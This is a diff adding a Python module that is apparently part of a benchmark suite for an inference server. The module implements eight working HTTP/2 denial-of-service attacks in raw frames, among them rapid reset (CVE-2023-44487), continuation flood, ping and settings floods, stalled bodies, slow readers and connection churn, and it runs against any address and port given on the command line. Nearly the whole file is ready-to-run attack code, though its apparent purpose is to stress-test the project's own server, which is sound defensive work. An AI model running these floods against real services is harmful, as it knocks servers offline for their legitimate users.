@@ -1,0 +1,165 @@
+"""Abuse of HTTP/2 in raw frames: rapid reset, stalled bodies, idle connections, floods, slow readers.
+
+Run as `python -m fitserve_benchmarks.hostile_frames ADDRESS PORT KIND SECONDS`, so that an attacker's work is not the
+innocents'; it prints how many frames or connections it spent.
+Sources: RFC 9113 (frames), CVE-2023-44487 (rapid reset), CERT VU#421644 (continuation flood).
+"""
+
+from __future__ import annotations
+
+import socket
+import sys
+import time
+from collections.abc import Callable, Mapping
+from contextlib import ExitStack
+from typing import Final
+
+from fitserve_benchmarks.http2 import PREFACE, frame, frame_message, header_block
+
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
+_END_STREAM, _END_HEADERS = 0x1, 0x4
+_TIMEOUT_S: Final = 5.0
+_STREAMS: Final = 63
+"""Below the server's limit of streams on one connection: what goes beyond it is cheap to refuse."""
+
+_LIVE: Final = "/inference.GRPCInferenceService/ServerMetadata"
+_PREDICT: Final = "/fitserve.inference.v1.InferenceService/Predict"
+
+Attack = Callable[[str, int, float], int]
+
+
+def rapid_reset(host: str, port: int, until_s: float) -> int:
+    """Begins calls and resets them at once, as many as fit."""
+    headers, cancel = header_block(f"{host}:{port}", _PREDICT), (8).to_bytes(4, "big")
+
+    def burst(first: int) -> bytes:
+        streams = range(first, first + 2 * 200, 2)
+        pairs = (frame(_HEADERS, _END_HEADERS, s, headers) + frame(_RST_STREAM, 0, s, cancel) for s in streams)
+        return b"".join(pairs)
+
+    return _flood(host, port, until_s, burst, 200)
+
+
+def stalled_bodies(host: str, port: int, until_s: float) -> int:
+    """Begins calls on many connections, says half of a message's length, and waits."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+    calls = b"".join(
+        frame(_HEADERS, _END_HEADERS, s, headers) + frame(_DATA, 0, s, b"\0\0") for s in range(1, 2 * _STREAMS, 2)
+    )
+    return _hold(host, port, until_s, 64, PREFACE + frame(_SETTINGS, 0, 0, b"") + calls) * _STREAMS
+
+
+def idle_connections(host: str, port: int, until_s: float) -> int:
+    """Opens connections and says nothing."""
+    return _hold(host, port, until_s, 500, b"")
+
+
+def slow_readers(host: str, port: int, until_s: float) -> int:
+    """Asks on many connections and never reads an answer, nor lets the server send one."""
+    headers = header_block(f"{host}:{port}", _LIVE)
+    no_window = frame(_SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4))
+    asking = frame_message(b"")
+    calls = b"".join(
+        frame(_HEADERS, _END_HEADERS, s, headers) + frame(_DATA, _END_STREAM, s, asking)
+        for s in range(1, 2 * _STREAMS, 2)
+    )
+    return _hold(host, port, until_s, 64, PREFACE + no_window + calls) * _STREAMS
+
+
+def ping_flood(host: str, port: int, until_s: float) -> int:
+    """Sends pings without an end."""
+    return _flood(host, port, until_s, lambda _: frame(_PING, 0, 0, bytes(8)) * 200, 200)
+
+
+def settings_flood(host: str, port: int, until_s: float) -> int:
+    """Sends settings without an end, each to be acknowledged."""
+    return _flood(host, port, until_s, lambda _: frame(_SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100))) * 200, 200)
+
+
+def continuation_flood(host: str, port: int, until_s: float) -> int:
+    """Begins headers and never ends them."""
+    headers = header_block(f"{host}:{port}", _PREDICT)
+    more = b"\x00\x01a" + b"\x7f\x81\x7c" + b"b" * 16_000
+
+    def burst(first: int) -> bytes:
+        return (frame(_HEADERS, 0, 1, headers) if first == 1 else b"") + frame(_CONTINUATION, 0, 1, more) * 20
+
+    return _flood(host, port, until_s, burst, 20)
+
+
+def churn(host: str, port: int, until_s: float) -> int:
+    """Opens connections, begins a call and hangs up."""
+    hello = PREFACE + frame(_SETTINGS, 0, 0, b"")
+    call = frame(_HEADERS, _END_HEADERS, 1, header_block(f"{host}:{port}", _PREDICT))
+    count = 0
+    while time.monotonic() < until_s:
+        with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
+            opened.sendall(hello + call)
+        count += 1
+    return count
+
+
+ATTACKS: Final[Mapping[str, Attack]] = {
+    "rapid reset": rapid_reset,
+    "stalled bodies": stalled_bodies,
+    "idle connections": idle_connections,
+    "slow readers": slow_readers,
+    "ping flood": ping_flood,
+    "settings flood": settings_flood,
+    "continuation flood": continuation_flood,
+    "connection churn": churn,
+}
+"""Attack to what carries it out until a monotonic time, and gives how many frames or connections it took."""
+
+
+def _flood(host: str, port: int, until_s: float, burst: Callable[[int], bytes], burst_count: int) -> int:
+    """Sends bursts, and connects anew where the server hangs up; what it answers is thrown away."""
+    count = 0
+    while time.monotonic() < until_s:
+        try:
+            with socket.create_connection((host, port), timeout=_TIMEOUT_S) as opened:
+                opened.sendall(PREFACE + frame(_SETTINGS, 0, 0, b""))
+                count += _bursts(opened, until_s, burst, burst_count)
+        except OSError:
+            continue
+    return count
+
+
+def _bursts(opened: socket.socket, until_s: float, burst: Callable[[int], bytes], burst_count: int) -> int:
+    first, count = 1, 0
+    while time.monotonic() < until_s:
+        try:
+            opened.sendall(burst(first))
+            if not opened.recv(1 << 20, socket.MSG_DONTWAIT):
+                break
+        except BlockingIOError:
+            pass
+        except OSError:
+            break
+        first += 2 * burst_count
+        count += burst_count
+    return count
+
+
+def _hold(host: str, port: int, until_s: float, connections: int, said: bytes) -> int:
+    """Opens connections that say one thing and stay; gives how many there were."""
+    count = 0
+    with ExitStack() as stack:
+        while time.monotonic() < until_s:
+            if count < connections:
+                opened = stack.enter_context(socket.create_connection((host, port), timeout=_TIMEOUT_S))
+                opened.sendall(said)
+                count += 1
+            else:
+                time.sleep(0.05)
+    return count
+
+
+def main() -> None:
+    """Attacks, and prints how much."""
+    host, port, kind, seconds = sys.argv[1:]
+    print(ATTACKS[kind](host, int(port), time.monotonic() + float(seconds)))
+
+
+if __name__ == "__main__":
+    main()
